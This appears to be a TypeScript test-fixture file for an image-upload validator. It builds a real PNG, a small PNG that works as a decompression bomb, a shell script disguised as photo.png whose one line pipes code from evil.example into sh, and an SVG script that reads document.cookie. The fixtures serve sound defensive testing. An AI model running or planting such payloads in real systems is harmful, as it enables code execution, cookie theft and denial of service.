import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { FilePart } from './multipart';

/** A real PNG picture of one colour. */
export async function pngPicture(width = 64, height = 48, colour = '#2563eb'): Promise<FilePart> {
  const data = await sharp({ create: { width, height, channels: 3, background: colour } })
    .png()
    .toBuffer();
  return { data, filename: 'picture.png', type: 'image/png' };
}

function chunk(type: string, body: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * A decompression bomb's header: a valid PNG that declares width × height
 * pixels (30000 × 30000 = 900 megapixels) in a file of a few hundred bytes.
 */
export function pngDeclaring(width: number, height: number): FilePart {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const firstRows = deflateSync(Buffer.alloc((width + 1) * 4));
  const data = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', firstRows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  return { data, filename: 'huge.png', type: 'image/png' };
}

/** A shell script under a picture's name and type. */
export const scriptAsPng: FilePart = {
  data: Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'),
  filename: 'photo.png',
  type: 'image/png',
};

/** An SVG carrying a script, under a picture's name and type. */
export const svgWithScript: FilePart = {
  data: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
  ),
  filename: 'logo.png',
  type: 'image/png',
};

/** A harmless SVG: refused all the same. */
export const plainSvg: FilePart = {
  data: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
  ),
  filename: 'logo.svg',
  type: 'image/svg+xml',
};
